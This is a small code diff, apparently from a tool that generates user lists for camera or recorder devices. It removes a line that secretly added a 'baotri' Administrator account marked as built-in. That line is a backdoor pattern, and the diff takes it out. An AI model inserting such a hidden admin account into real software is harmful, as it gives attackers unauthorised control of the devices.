@@ -58,7 +58,6 @@ def _user_list(held: Sequence[Held], rng: random.Random | None) -> str:
         level = "Operator" if one.rights.get("ptz") or one.rights.get("audio") else "Viewer"
         users.append(_user(number, one.login, level, enabled=one.enabled, newer=newer))
     if rng:
-        users.append(_user(len(held) + 2, "baotri", "Administrator", inherent=True, newer=newer))
         rng.shuffle(users)
     return _document("UserList", "".join(users), rng)
 
